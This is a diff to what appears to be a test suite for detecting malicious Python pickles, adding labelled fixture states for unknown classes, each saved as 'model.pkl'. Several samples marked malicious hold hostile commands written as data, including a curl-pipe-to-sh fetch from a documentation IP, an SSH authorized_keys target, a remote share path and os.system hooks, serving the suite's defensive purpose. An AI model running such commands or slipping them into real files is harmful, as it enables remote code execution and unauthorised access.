@@ -90,3 +90,29 @@ for _name, (_document, _bad) in _DICTS.items():
             family=_FAMILY if _bad else "benign pickles",
             malicious=_bad,
         )(partial(pickle.dumps, _document, _protocol))
+
+# Classes that nobody knows: what their state is tells what `__setstate__` is for.
+_UNKNOWN: dict[str, tuple[Any, bool]] = {
+    "argv": ({"argv": ["bash", "-c", "echo stannary"]}, True),
+    "command": ({"cmd": "curl -s http://203.0.113.9/x | sh"}, True),
+    "windows": ({"run": "cmd.exe /c echo stannary"}, True),
+    "code": ({"hook": "import os; os.system('echo stannary')"}, True),
+    "function": ({"callback": "os.system"}, True),
+    "keys": ({"target": "~/.ssh/authorized_keys"}, True),
+    "share": ({"data": {"file": "\\\\203.0.113.9\\share\\w.bin"}}, True),
+    "address": ({"url": "http://203.0.113.9/stage"}, True),
+    "plain": (
+        {
+            "path": "./data/train.csv",
+            "url": "https://huggingface.co/a/b",
+            "note": "find the best run; see docs",
+            "lr": 0.1,
+            "cmd": None,
+        },
+        False,
+    ),
+}
+for _name, (_told, _bad) in _UNKNOWN.items():
+    forge(f"pickle.state.unknown_{_name}", filename="model.pkl", family=_FAMILY, malicious=_bad)(
+        partial(_object, "acme.jobs", "Task", _told)
+    )
